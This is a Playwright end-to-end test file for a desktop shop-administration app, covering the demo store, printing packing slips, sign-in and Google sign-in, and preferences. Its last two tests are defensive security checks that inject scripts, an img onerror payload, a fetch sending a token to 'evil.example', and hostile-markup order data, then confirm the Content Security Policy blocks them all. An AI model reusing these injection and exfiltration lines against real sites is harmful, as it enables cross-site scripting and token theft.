import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import BetterSqlite3 from 'better-sqlite3';
import type { DesktopApi } from '#shared/desktop/calls.ts';
import { adminMessages } from '#shared/messages/admin.ts';
import {
  addressProblems,
  connectMessages,
  desktopMessages,
  googleMessages,
  menuMessages,
} from '#shared/messages/desktop.ts';
import { loginMessages } from '#shared/messages/login.ts';
import { navigationMessages } from '#shared/messages/navigation.ts';
import { printMessages, printProblems } from '#shared/messages/paper.ts';
import { addProduct, callerHeaders } from '../../e2e/support/api-caller.ts';
import { expectAccessible } from '../../e2e/support/axe.ts';
import { hostileMarkup } from '../../e2e/support/hostile-words.ts';
import { intrudingElements, watchIntrusions } from '../../e2e/support/intrusions.ts';
import { countPages } from '../../e2e/support/paper.ts';
import { scanCode } from '../../e2e/support/scanner.ts';
import { type AppWindow, type AppWindowOptions, openAppWindow } from './support/app-window.ts';

declare global {
  interface Window {
    bulkheadDesktop?: DesktopApi;
  }
}

// The built pages in Chromium, with the real handlers behind the bridge and the built server as the demo store.

const PASSWORD = 'bulkhead-demo';
const windows: AppWindow[] = [];
// The sample data takes seconds to make, so only the first test waits for it.
const cache = mkdtempSync(path.join(tmpdir(), 'bulkhead-sample-'));
const sample = path.join(cache, 'demo.sqlite');
const sampleData = () => (existsSync(sample) ? sample : null);

test.afterEach(async () => {
  for (const app of windows.splice(0)) await app.close(sample);
});
test.afterAll(() => rmSync(cache, { recursive: true }));

async function firstStart(page: Page, options: AppWindowOptions = {}): Promise<AppWindow> {
  const app = await openAppWindow(page, { sampleData: sampleData(), ...options });
  windows.push(app);
  await app.open('/dashboard/allorders');
  await expect(page.getByRole('heading', { name: connectMessages.title })).toBeVisible();
  return app;
}

async function openDemo(page: Page): Promise<void> {
  await page.getByRole('button', { name: connectMessages.openDemo }).click();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible({ timeout: 60_000 });
}

async function signIn(page: Page, email: string): Promise<void> {
  await page.getByLabel(loginMessages.email, { exact: false }).first().fill(email);
  await page.getByLabel(loginMessages.password).first().fill(PASSWORD);
  await page.getByRole('button', { name: loginMessages.submit, exact: true }).click();
}

const allOrders = (page: Page) => page.getByRole('heading', { name: adminMessages.allOrders, level: 1 });

test('first start: an address is checked; the demo store opens; an administrator sees All Orders', async ({ page }) => {
  const app = await firstStart(page);
  await expectAccessible(page);
  await page.getByLabel(connectMessages.address).fill('http://shop.example.com');
  await page.getByRole('button', { name: connectMessages.connect, exact: true }).click();
  await expect(page.getByText(addressProblems.insecure)).toBeVisible();

  await openDemo(page);
  await signIn(page, 'admin@bulkhead.example');
  await expect(allOrders(page)).toBeVisible();
  await expect(page.getByRole('row').nth(5)).toBeVisible();

  await app.navigate('/dashboard/manageproduct');
  await expect(page.getByRole('heading', { name: adminMessages.manageProducts, level: 1 })).toBeVisible();
  // Pictures of the demo lie in the application's own folder.
  const picture = page.locator('main img').first();
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);

  await page.evaluate(() =>
    window.bulkheadDesktop?.notify({ title: 'New order', body: '5 pieces', path: '/dashboard/allorders' }),
  );
  await page.evaluate(() => window.bulkheadDesktop?.setBadge({ count: 2 }));
  expect(app.notifications).toEqual([{ title: 'New order', body: '5 pieces', path: '/dashboard/allorders' }]);
  await app.navigate(app.notifications[0]?.path ?? '');
  await expect(allOrders(page)).toBeVisible();
  expect(app.badges).toEqual([2]);
  expect(app.complaints).toEqual([]);
});

/** The checkboxes of the newest orders that can be sent. */
const choices = (page: Page) => page.getByRole('row').getByRole('checkbox', { disabled: false });

async function openOrders(page: Page, options: AppWindowOptions = {}): Promise<AppWindow> {
  const app = await firstStart(page, options);
  await openDemo(page);
  await signIn(page, 'admin@bulkhead.example');
  await expect(allOrders(page)).toBeVisible();
  await expect(page.getByRole('row').nth(5)).toBeVisible();
  return app;
}

test('prints packing slips on the chosen printer, one by one, and says which failed', async ({ page }) => {
  const printers = [{ name: 'HP_Office', label: 'HP in the office' }];
  const onPrint = async (job: number) => ({ success: job !== 2, reason: job === 2 ? 'Print job failed' : '' });
  const app = await openOrders(page, { printers, onPrint });
  await page.getByRole('combobox', { name: printMessages.printer }).click();
  await page.getByTitle('HP in the office').click();
  for (const index of [0, 1, 2]) await choices(page).nth(index).check();
  await page.getByRole('button', { name: printMessages.print }).click();
  await expect(page.getByText(printMessages.printed(2))).toBeVisible({ timeout: 30_000 });
  const failures = page.getByRole('alert').filter({ hasText: printMessages.failed(1) });
  await expect(failures.getByText(printProblems.printer('Print job failed'))).toBeVisible();
  await expectAccessible(page);
  await failures.getByRole('button', { name: /^Try again/ }).click();
  await expect(page.getByText(printMessages.printed(1))).toBeVisible({ timeout: 30_000 });

  expect(app.prints.map(({ printer, text }) => [printer, text.length])).toEqual(Array(4).fill(['HP_Office', 1]));
  expect(app.prints[3]?.text).toEqual(app.prints[1]?.text);
  for (const { text } of app.prints) expect(text[0]).toMatch(/Packing slip[^$]*$/);
  await expect(page.getByText(printMessages.chosen(0))).toBeVisible();
  expect(app.complaints).toEqual([]);

  // The choice lasts, until the printer is gone: then the dialog is asked, once for all.
  await app.open('/dashboard/allorders');
  await expect(page.getByTitle('HP in the office')).toBeVisible();
  for (const index of [0, 1]) await choices(page).nth(index).check();
  printers.pop();
  await page.getByRole('button', { name: printMessages.print }).click();
  await expect(page.getByText(printMessages.printerGone)).toBeVisible({ timeout: 30_000 });
  expect(app.prints.slice(4).map(({ printer, text }) => [printer, text.length])).toEqual([[null, 2]]);
  await expect(page.getByTitle(printMessages.askEachTime)).toBeVisible();
});

test('says how many packing slips are printed, and stops after the one that is on the printer', async ({ page }) => {
  const held = Promise.withResolvers<void>();
  const onPrint = async (job: number) => {
    if (job === 2) await held.promise;
    return { success: true, reason: '' };
  };
  const app = await openOrders(page, { printers: [{ name: 'HP_Office', label: 'HP in the office' }], onPrint });
  await page.getByRole('combobox', { name: printMessages.printer }).click();
  await page.getByTitle('HP in the office').click();
  for (const index of [0, 1, 2]) await choices(page).nth(index).check();
  await page.getByRole('button', { name: printMessages.print }).click();
  await expect(page.getByText(printMessages.progress(1, 3))).toBeVisible({ timeout: 30_000 });
  await expect.poll(() => app.prints.length, { timeout: 30_000 }).toBe(2);
  await page.getByRole('button', { name: printMessages.stop }).click();
  held.resolve();
  await expect(page.getByText(`${printMessages.stopped} ${printMessages.printed(2)}`)).toBeVisible();
  await expect(page.getByText(printMessages.chosen(1))).toBeVisible();
  expect(app.prints).toHaveLength(2);
});

test('a scanned packing slip opens its order, which is shipped by the keyboard', async ({ page }) => {
  const app = await openOrders(page, { printers: [{ name: 'HP_Office', label: 'HP in the office' }] });
  const pending = page.getByRole('row').filter({ has: page.getByRole('button', { name: adminMessages.pending }) });
  await pending.first().getByRole('checkbox').check();
  await page.getByRole('button', { name: printMessages.print }).click();
  await expect(page.getByText(printMessages.printed(1))).toBeVisible({ timeout: 30_000 });
  const orderId = /[0-9a-f-]{36}/.exec(app.prints[0]?.text[0] ?? '')?.[0] ?? '';

  await app.navigate('/dashboard/manageproduct');
  await expect(page.getByRole('heading', { name: adminMessages.manageProducts, level: 1 })).toBeVisible();
  await scanCode(page, orderId);
  const opened = page.getByRole('region', { name: adminMessages.linkedOrder });
  await expect(opened).toBeFocused();
  const ship = opened.getByRole('button', { name: adminMessages.pending });
  await ship.focus();
  await page.keyboard.press('Enter');
  await expect(opened.getByText(adminMessages.shipped, { exact: true })).toBeVisible();
  expect(app.complaints).toEqual([]);
});

test('saves packing slips as one PDF, a page for each, where the dialog says', async ({ page }) => {
  let file = '';
  const suggestions: string[] = [];
  const saveFile = async ({ suggestion }: { suggestion: string }) => {
    suggestions.push(suggestion);
    return file;
  };
  const app = await openOrders(page, { dialogs: { saveFile } });
  for (const index of [0, 1, 2]) await choices(page).nth(index).check();
  file = path.join(app.folder, 'nowhere', 'slips.pdf');
  await page.getByRole('button', { name: printMessages.save }).click();
  await expect(page.getByRole('alert').getByText(printProblems.notWritable)).toHaveCount(3, { timeout: 30_000 });
  file = path.join(app.folder, 'slips.pdf');
  await page.getByRole('button', { name: printMessages.retryAll }).click();
  await expect(page.getByText(printMessages.saved(3))).toBeVisible({ timeout: 30_000 });
  expect(countPages(readFileSync(file))).toBe(3);
  expect(suggestions).toEqual(Array(2).fill(expect.stringMatching(/^3-packing-slips-\d{4}-\d\d-\d\d\.pdf$/)));
});

test('signing out leaves nothing behind, and signing in works again at once', async ({ page }) => {
  const app = await firstStart(page);
  await openDemo(page);
  await signIn(page, 'admin@bulkhead.example');
  await expect(allOrders(page)).toBeVisible();
  await page.getByRole('button', { name: navigationMessages.signOut }).click();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
  await expect.poll(() => app.badges).toEqual([0]);
  expect(await page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)])).toEqual([[], []]);

  await signIn(page, 'admin@bulkhead.example');
  await expect(allOrders(page)).toBeVisible();
  await page.reload();
  await expect(allOrders(page)).toBeVisible();
});

test('a customer is told that this is for administrators, and is signed out', async ({ page }) => {
  await firstStart(page);
  await openDemo(page);
  await signIn(page, 'customer@bulkhead.example');
  await expect(page.getByText(desktopMessages.administratorsOnly)).toBeVisible();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('accessToken'))).toBeNull();
  await page.reload();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
});

test("Google's sign-in goes through the user's browser and ends in the application", async ({ page }) => {
  // A stand-in for Google's token endpoint: everybody is the administrator, with the nonce of the question.
  let nonce = '';
  const google = createServer((_request, response) => {
    const exp = Math.floor(Date.now() / 1000) + 600;
    const person = { sub: '7', email: 'admin@bulkhead.example', email_verified: true, name: 'Ada Morris' };
    const claims = { iss: 'https://accounts.google.com', aud: 'desktop', exp, nonce, ...person };
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ id_token: `${part({ alg: 'RS256' })}.${part(claims)}.signature` }));
  });
  await new Promise<void>((resolve) => google.listen(0, '127.0.0.1', resolve));
  const { port } = google.address() as AddressInfo;
  await firstStart(page, {
    google: {
      endpoints: {
        authorization: 'https://accounts.google.com/o/oauth2/v2/auth',
        token: `http://127.0.0.1:${port}/token`,
        issuers: ['https://accounts.google.com'],
      },
      client: async () => ({ clientId: 'desktop', clientSecret: 'known to everyone' }),
      openBrowser: async (address) => {
        const asked = new URL(address).searchParams;
        nonce = asked.get('nonce') ?? '';
        const answer = new URLSearchParams({ state: asked.get('state') ?? '', code: 'code' });
        setTimeout(() => void fetch(`${asked.get('redirect_uri')}/?${answer}`), 100);
        return true;
      },
    },
  });
  // A shop with real Google accounts, whose identity service happens to be the demo's.
  await page.route('**/api/config', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, json: { ...(await answer.json()), demo: false } });
  });
  await openDemo(page);
  await page.getByRole('button', { name: loginMessages.google }).click();
  await expect(allOrders(page)).toBeVisible();
  google.close();
});

test("a sign-in that goes on in the user's browser can be called off, and tried again", async ({ page }) => {
  await firstStart(page, {
    google: {
      endpoints: { authorization: 'https://accounts.google.com/o/oauth2/v2/auth', token: '', issuers: [] },
      client: async () => ({ clientId: 'desktop', clientSecret: 'known to everyone' }),
      // The user closes that page again.
      openBrowser: async () => true,
    },
  });
  await page.route('**/api/config', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, json: { ...(await answer.json()), demo: false } });
  });
  await openDemo(page);
  const google = page.getByRole('button', { name: loginMessages.google });
  for (let attempt = 0; attempt < 2; attempt++) {
    await google.click();
    await expect(page.getByText(loginMessages.googleElsewhere)).toBeVisible();
    await page.getByRole('button', { name: loginMessages.cancelGoogle, exact: true }).click();
    await expect(page.getByText(loginMessages.googleElsewhere)).toHaveCount(0);
    await expect(page.getByRole('alert').filter({ hasText: googleMessages.cancelled })).toBeVisible();
    await expect(google).not.toHaveAttribute('aria-busy', 'true');
  }
});

test('the preferences can be changed on the profile, and stay', async ({ page }) => {
  const app = await firstStart(page);
  await openDemo(page);
  // The demo's mail page is the store's, whose address no browser is given.
  await expect(page.getByRole('link', { name: navigationMessages.demoMail })).toHaveCount(0);
  await signIn(page, 'admin@bulkhead.example');
  await expect(allOrders(page)).toBeVisible();
  await app.open('/dashboard');
  const announce = page.getByRole('checkbox', { name: menuMessages.notifications });
  await expect(announce).toBeChecked();
  await announce.uncheck();
  await page.getByRole('checkbox', { name: menuMessages.keepInTray }).check();
  await expectAccessible(page);
  await page.reload();
  await expect(announce).not.toBeChecked();
  await expect(page.getByRole('checkbox', { name: menuMessages.keepInTray })).toBeChecked();
  await expect(page.getByRole('checkbox', { name: menuMessages.startAtLogin })).not.toBeChecked();
});

test('a copy of the demo store is whole, and starting over brings the sample data back', async ({ page }) => {
  let copy = '';
  const app = await firstStart(page, { dialogs: { saveFile: async () => copy } });
  copy = path.join(app.folder, 'copy.sqlite');
  await openDemo(page);
  expect(await page.evaluate(() => window.bulkheadDesktop?.saveDemoCopy())).toEqual({ status: 'done' });
  const copied = new BetterSqlite3(copy, { readonly: true });
  expect(copied.pragma('integrity_check', { simple: true })).toBe('ok');
  expect(copied.prepare('select count(*) as count from products').get()).toEqual({ count: 26 });
  copied.close();
  expect(await page.evaluate(() => window.bulkheadDesktop?.startDemoOver())).toEqual({ status: 'done' });
});

test('a script from elsewhere does not run, and nothing can be sent elsewhere', async ({ page }) => {
  const app = await firstStart(page);
  await openDemo(page);
  const attempt = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.stolen = true';
    document.body.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="x" onerror="window.stolen = true">';
    document.body.append(image);
    const sent = await fetch('https://evil.example/?token').then(
      () => true,
      () => false,
    );
    return { stolen: 'stolen' in window, sent };
  });
  expect(attempt).toEqual({ stolen: false, sent: false });
  expect(app.complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3);
});

test('an order that is full of markup is shown in All Orders as it was written, and does nothing', async ({
  page,
  playwright,
}) => {
  const found = await watchIntrusions(page.context());
  const app = await openOrders(page);
  const store = await page.evaluate(() => window.bulkheadDesktop?.readStore());
  const request = await playwright.request.newContext({ baseURL: store?.connected?.origin ?? '' });
  const name = Object.values(hostileMarkup).slice(0, 4).join(' ').slice(0, 200);
  const product = await addProduct(request, await callerHeaders(request, 'admin@bulkhead.example'), {
    product: name,
    price: 5,
  });
  const headers = await callerHeaders(request, 'customer@bulkhead.example');
  const addresses = [Object.values(hostileMarkup).slice(0, 8), Object.values(hostileMarkup).slice(8)];
  for (const words of addresses) {
    const data = { productId: product._id, address: words.join(' '), phone: '2165550143', quantity: 10 };
    expect((await request.post('/api/orders', { headers, data })).status()).toBe(201);
  }
  await app.open('/dashboard/allorders');
  for (const words of addresses) await expect(page.locator('tbody')).toContainText(words.join(' '));
  await expect(page.locator('tbody')).toContainText(name);
  expect(await intrudingElements(page)).toEqual([]);
  expect(found).toEqual([]);
  expect(app.complaints).toEqual([]);
  await request.dispose();
});
